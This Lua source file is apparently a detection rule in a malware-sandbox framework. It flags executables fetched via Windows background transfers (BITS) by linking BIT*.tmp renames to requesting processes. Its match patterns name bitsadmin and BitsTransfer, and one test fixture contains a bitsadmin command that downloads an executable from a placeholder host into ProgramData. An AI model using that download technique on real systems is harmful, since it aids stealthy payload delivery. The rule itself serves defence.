-- Files that background transfers (BITS) bring. The service writes them for whoever asked, under a hidden name BIT*.tmp
-- in the target's folder, and renames them: who asked is known by a command that names the file, or, presumably, by
-- whose folder it is and who has loaded the client's library. Updaters of Windows and of browsers do so all day.

local command = require "kaiseki.detect.command"
local dropped = require "kaiseki.detect.dropped"
local lineage = require "kaiseki.detect.lineage"
local memory = require "kaiseki.detect.memory"
local places = require "kaiseki.detect.places"
local say = require "kaiseki.detect.say"

local CLIENTS = { [[\bitsproxy.dll]], [[\qmgrprxy.dll]] }

-- Ticks between asking and the end of the transfer: a job waits for the network, but not for hours.
local LATEST = 36000000000

-- What is kept of each: later ones are left aside.
local MOST = 2000

local kept = memory.of_case()

local function lists(case)
    local mine = kept(case)
    if not mine.files then mine.files, mine.clients, mine.commands = {}, {}, {} end
    return mine
end

local function add(list, item)
    if #list < MOST then list[#list + 1] = item end
end

local function asks(each)
    return (each.program == "bitsadmin" or each.folded:find("bitstransfer", 1, true) ~= nil) and each.folded or nil
end

local function note(event, case)
    local mine = lists(case)
    if event.operation == "Load Image" then
        local process = lineage.requester(event.process)
        add(mine.clients, { process = process, time = event.time, index = event.index })
    elseif event.operation == "Process Create" then
        local text = command.first(event.child.command_line, asks)
        if text then
            add(mine.commands, { process = lineage.requester(event.process), text = text, time = event.time,
                                 index = event.index })
        end
    elseif event.file.new_path and lineage.is_shell(event.process) then
        add(mine.files, { path = event.file.new_path, time = event.time, index = event.index })
    end
end

-- The last one before the file was there that the test holds for.
local function latest(list, file, test)
    for at = #list, 1, -1 do
        local each = list[at]
        local late = each.time and file.time and file.time - each.time > LATEST
        if each.index < file.index and not late and test(each) then return each end
    end
    return nil
end

-- Folders in which the sample's tree made files, or that it made, in lower case.
local function folders_of_tree(case)
    local folders = {}
    for _, file in ipairs(case.files) do
        local maker = file.in_tree and file.created and dropped.maker(file)
        if maker and maker.in_tree then
            folders[file.is_directory and file.path:lower() or places.folder(file.path)] = true
        end
    end
    return folders
end

-- Folders that everybody writes into tie nobody.
local function is_shared(folder)
    return places.in_temp(folder .. [[\a]]) and folder:find [[\temp$]] ~= nil or folder:find [[\downloads$]] ~= nil
end

local function tie_of(mine, file, folders)
    local name, folder = places.name(file.path), places.folder(file.path)
    local asked = latest(mine.commands, file, function(each) return each.text:find(name, 1, true) ~= nil end)
    if asked then return asked, "named" end
    local client = latest(mine.clients, file, function(each)
        if not each.process.in_tree then return false end
        return places.folder(say.image(each.process)) == folder or (folders[folder] == true and not is_shared(folder))
    end)
    return client, "likely"
end

local function example(tail)
    local events = {
        { operation = "CreateFile", result = "SUCCESS", ["process.name"] = "a.exe", ["process.pid"] = 4,
          ["process.image"] = [[C:\Users\x\a.exe]], path = [[C:\ProgramData\q\a.txt]], time = 10,
          ["file.created"] = true },
        { operation = "SetRenameInformationFile", result = "SUCCESS", ["process.name"] = "svchost.exe",
          ["process.pid"] = 8, path = [[C:\ProgramData\q\BIT4F1A.tmp]], ["file.new_path"] = [[C:\ProgramData\q\b.exe]],
          time = 30 },
    }
    table.insert(events, 2, tail)
    return { sample = "a.exe", events = events }
end

rule {
    id = "command-and-control.bits",
    title = "File fetched by background transfers",
    severity = "medium",
    attack = { "T1197", "T1105" },
    description = "The service for background transfers puts a file where a program of the sample's tree asked for it.",
    references = { "https://attack.mitre.org/techniques/T1197/" },
    false_positives = { "Updaters that fetch their files so, when they are the sample." },
    author = "kaiseki",
    match = (operation:is { "SetRenameInformationFile", "SetRenameInformationEx" } & result:is "SUCCESS"
             & process.name:is "svchost.exe" & path:endswith ".tmp" & path:regex [[\\BIT[0-9A-F]+\.tmp$]])
        | (operation:is "Load Image" & path:endswith(CLIENTS))
        | (operation:is "Process Create" & child.command_line:contains { "bitsadmin", "bitstransfer" }),
    on_event = note,
    on_finish = function(case)
        local mine = lists(case)
        local folders = #mine.files > 0 and folders_of_tree(case) or {}
        for _, file in ipairs(mine.files) do
            local asked, evidence = tie_of(mine, file, folders)
            if asked then
                local record = case:file(file.path)
                local weighs = places.is_executable(file.path) or evidence == "named"
                case:finding {
                    process = asked.process, key = file.path:lower(), severity = not weighs and "low" or nil,
                    events = { case:event(asked.index), case:event(file.index) },
                    facts = { "fetch-with-bits", file = file.path, evidence = evidence,
                              size = record and dropped.size(record) or nil },
                }
            end
        end
    end,
    examples = {
        match = {
            example { operation = "Load Image", result = "SUCCESS", ["process.name"] = "a.exe",
                      ["process.pid"] = 4, ["process.image"] = [[C:\Users\x\a.exe]], time = 20,
                      path = [[C:\Windows\System32\qmgrprxy.dll]] },
            example { operation = "Process Create", result = "SUCCESS", ["process.name"] = "a.exe",
                      ["process.pid"] = 4, ["child.pid"] = 12,
                      path = [[C:\Windows\System32\bitsadmin.exe]], time = 20,
                      ["child.command_line"] = [[bitsadmin /transfer q http://x.example/b C:\ProgramData\q\b.exe]] },
        },
        no_match = {
            example { operation = "Load Image", result = "SUCCESS", ["process.name"] = "updater.exe",
                      ["process.pid"] = 16, ["process.image"] = [[C:\Program Files\Tool\updater.exe]], time = 20,
                      path = [[C:\Windows\System32\qmgrprxy.dll]] },
        },
    },
}
